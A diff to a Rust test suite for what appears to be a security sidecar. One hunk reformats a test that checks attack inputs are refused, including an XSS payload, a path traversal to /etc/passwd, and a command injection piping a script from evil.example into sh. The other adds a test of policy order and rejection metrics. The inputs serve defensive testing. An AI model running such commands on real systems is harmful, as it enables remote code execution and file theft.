@@ -343,7 +343,10 @@ fn injections_in_parameters_and_bodies_are_refused_or_logged_as_configured() {
         ),
         ("<img src=x onerror=alert(1)>", "xss"),
         ("../../../../etc/passwd", "path-traversal"),
-        ("x && curl http://evil.example/x.sh | sh", "command-injection"),
+        (
+            "x && curl http://evil.example/x.sh | sh",
+            "command-injection",
+        ),
     ] {
         let answer = search(attack);
         assert_eq!(answer.status, 403, "{attack}");
@@ -415,4 +418,42 @@ fn percent_encode(text: &str) -> String {
             _ => format!("%{b:02X}"),
         })
         .collect()
+}
+
+#[test]
+fn policies_run_in_the_documented_order_and_every_refusal_is_counted_by_reason() {
+    let sidecar = start_with(
+        "tests/fixtures/sidecar/order.yaml",
+        "echo",
+        &["--trusted-proxy", "127.0.0.1/32", "--admin", "127.0.0.1:0"],
+    );
+    let call = |client: &str, key: Option<&str>, query: &str| {
+        let mut headers = vec![("X-Forwarded-For", client)];
+        if let Some(key) = key {
+            headers.push(("X-Key", key));
+        }
+        send(&sidecar, "GET", &format!("/orders{query}"), &headers, b"").status
+    };
+    // IP rules come before authentication: a denied address learns nothing about credentials.
+    assert_eq!(call("203.0.113.5", None, ""), 403);
+    // Authentication comes before rate limits: anonymous requests never spend a caller's budget.
+    for _ in 0..3 {
+        assert_eq!(call("10.0.0.1", None, ""), 401);
+    }
+    // Rate limits come before validation: an invalid request still spends the budget…
+    assert_eq!(call("10.0.0.1", Some("order-key"), "?n=abc"), 400);
+    // …so the next, valid one is over the limit.
+    assert_eq!(call("10.0.0.1", Some("order-key"), "?n=1"), 429);
+
+    let admin = sidecar.admin.as_deref().expect("admin address");
+    let metrics = send_to(admin, "GET", "/metrics", &[], b"").body;
+    for (reason, count) in [
+        ("ip-denied", 1),
+        ("unauthenticated", 3),
+        ("invalid-parameters", 1),
+        ("rate-limited", 1),
+    ] {
+        let line = format!("specgate_rejections_total{{reason=\"{reason}\"}} {count}");
+        assert!(metrics.contains(&line), "{line} in:\n{metrics}");
+    }
 }
